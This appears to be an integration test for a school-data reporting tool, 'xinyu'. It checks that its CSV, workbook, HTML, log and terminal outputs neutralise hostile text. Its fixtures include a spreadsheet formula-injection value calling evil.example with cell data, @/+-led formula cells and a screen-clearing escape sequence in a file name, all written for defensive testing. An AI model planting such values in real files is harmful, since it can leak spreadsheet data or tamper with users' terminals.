# Text from outside (registry names, unknown keys, file names) cannot act in a spreadsheet or
# a terminal: a CSV text cell led by = + - @ (or tab, CR) gets a leading ', numbers stay
# numbers, and control characters are shown escaped (\x1b) in every CSV, the workbooks, the
# HTML pages, "xinyu status", "xinyu check" and the logs; the JSON stays valid JSON.
source "$ROOT/tests/integration/lib.sh"
setup_fixtures
hyperlink='=HYPERLINK("http://evil.example/"&A1,"fix")'
# a school that does not report, one whose submission is rejected, a district's name
{
    printf 'school_code,school_name,district_code,district_name,school_type,active\n'
    printf '3201020001,玄武区示范小学,320102,玄武区,primary,true\n'
    printf '3201020002,@SUM(1+1),320102,玄武区,junior,true\n'
    printf '3201040001,"=HYPERLINK(""http://evil.example/""&A1,""fix"")",320104,+秦淮区,nine_year,true\n'
    printf '3201040002,秦淮区特殊教育学校,320104,+秦淮区,special,true\n'
} >"$TEST_TMP/schools.csv"
spool="$TEST_TMP/spool"
mkdir -p "$spool"
cp "$ROOT/tests/fixtures/spec-examples/submission-minimal.json" "$spool/"
# an unknown top-level key that is a formula
python3 - "$ROOT/tests/fixtures/spec-examples/submission-full.json" "$spool/full.json" "$hyperlink" <<'PY'
import json, sys
doc = json.load(open(sys.argv[1], encoding="utf-8"))
doc[sys.argv[3]] = 1
json.dump(doc, open(sys.argv[2], "w", encoding="utf-8"), ensure_ascii=False)
PY
# a rejected submission whose file name clears the screen
evil=$'\e[2Jevil.json'
cp "$ROOT/tests/fixtures/spec-examples/submission-rejected.json" "$spool/$evil"
write_config "$TEST_TMP/conf.json" "$spool"
out="$TEST_TMP/out"
x() { "$XINYU" --config "$TEST_TMP/conf.json" "$@"; }

x run --out "$out" >"$TEST_TMP/run.out" 2>"$TEST_TMP/run.log" || [ $? = 1 ]
x quality --year 2024 --out "$out" >>"$TEST_TMP/run.out" 2>>"$TEST_TMP/run.log"
x audit --year 2024 --format json,csv,html,xlsx --out "$out" >>"$TEST_TMP/run.out" 2>>"$TEST_TMP/run.log"
x review --from 2024 --to 2024 --format json,csv,html,xlsx --out "$out" >>"$TEST_TMP/run.out" 2>>"$TEST_TMP/run.log"
x report --year 2024 --format json,csv,html,xlsx --out "$out" >>"$TEST_TMP/run.out" 2>>"$TEST_TMP/run.log"
x status >"$TEST_TMP/status.out" 2>>"$TEST_TMP/run.log"
x check "$spool/$evil" >"$TEST_TMP/check.out" 2>>"$TEST_TMP/run.log" || [ $? = 1 ]
x check "$spool/nothing-$evil" >>"$TEST_TMP/check.out" 2>>"$TEST_TMP/run.log" || [ $? = 1 ]
# a registry named so that cannot be read: the log line names it
x check --registry "$TEST_TMP/$evil.csv" "$spool/full.json" >/dev/null 2>>"$TEST_TMP/run.log" || [ $? = 2 ]
x --log-format json check --registry "$TEST_TMP/$evil.csv" "$spool/full.json" >/dev/null 2>"$TEST_TMP/run.json" || [ $? = 2 ]

python3 - "$out" "$TEST_TMP" "$hyperlink" <<'PY'
import csv, glob, io, json, os, re, sys, zipfile
out, tmp, hyperlink = sys.argv[1], sys.argv[2], sys.argv[3]
controls = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x80-\x9f]")
formula_lead = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
problems = []

def number(cell):
    try:
        float(cell)
        return True
    except ValueError:
        return False

cells = set()
csvs = sorted(glob.glob(os.path.join(out, "**", "*.csv"), recursive=True))
assert len(csvs) >= 10, csvs
for path in csvs:
    text = open(path, encoding="utf-8-sig", newline="").read()
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            cells.add(cell)
            if controls.search(cell):
                problems.append(f"{path}: control character in {cell!r}")
            if cell.startswith(formula_lead) and not number(cell):
                problems.append(f"{path}: a formula cell {cell!r}")
want = {
    "'" + hyperlink: "the registry name led by =",
    "'@SUM(1+1)": "the registry name led by @",
    "'+秦淮区": "the district name led by +",
    "\\x1b[2Jevil.json": "the file name, its escape shown",
}
for cell, what in want.items():
    if cell not in cells:
        problems.append(f"no CSV cell {cell!r} ({what})")
warnings = open(os.path.join(out, "quality-2024-warnings.csv"), encoding="utf-8-sig", newline="")
if not any(r["字段 path"] == "'" + hyperlink for r in csv.DictReader(warnings)):
    problems.append("the unknown key is not neutralised in the warnings' CSV")
# numbers stay numbers: a negative gap of the indicator CSV is written as it is
if not any(c.startswith("-") and number(c) for c in cells):
    problems.append("no negative number in the CSVs (the test shows nothing)")

for path in glob.glob(os.path.join(out, "**", "*.json"), recursive=True):
    json.load(open(path, encoding="utf-8"))
for path in glob.glob(os.path.join(out, "**", "*.html"), recursive=True):
    if controls.search(open(path, encoding="utf-8").read()):
        problems.append(f"{path}: control character")
xlsx = glob.glob(os.path.join(out, "*.xlsx"))
assert len(xlsx) >= 4, xlsx
seen_name = False
for path in xlsx:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            xml = z.read(name).decode("utf-8")
            if "_x001B_" in xml or controls.search(xml):
                problems.append(f"{path}:{name}: a control character")
            if name.startswith("xl/worksheets/") and "<f>" in xml:
                problems.append(f"{path}:{name}: a formula")
            seen_name |= "\\x1b[2Jevil.json" in xml
if not seen_name:
    problems.append("the file name is in no workbook")

for name, want in (("status.out", "\\x1b[2Jevil.json"), ("check.out", "\\x1b[2Jevil.json"),
                   ("run.log", "\\x1b[2J")):
    data = open(os.path.join(tmp, name), "rb").read()
    # U+009B (CSI) as a character: the byte 0x9b is also inside UTF-8 Chinese (回 is e5 9b 9e)
    text = data.decode("utf-8", errors="surrogateescape")
    if "\x1b" in text or "\x9b" in text or "\udc9b" in text:
        problems.append(f"{name}: a raw escape character")
    if want.encode() not in data:
        problems.append(f"{name}: {want!r} not shown")
# a JSON log line escapes it the JSON way, and stays one valid line
raw = open(os.path.join(tmp, "run.json"), "rb").read()
if b"\x1b" in raw or not raw.strip():
    problems.append("the JSON log carries the raw escape, or is empty")
for line in raw.decode("utf-8").splitlines():
    if "\x1b[2J" not in json.loads(line)["message"]:
        problems.append(f"a JSON log line lost the name: {line!r}")
if problems:
    print("\n".join(problems))
    sys.exit(1)
PY
echo "hostile texts neutralised"
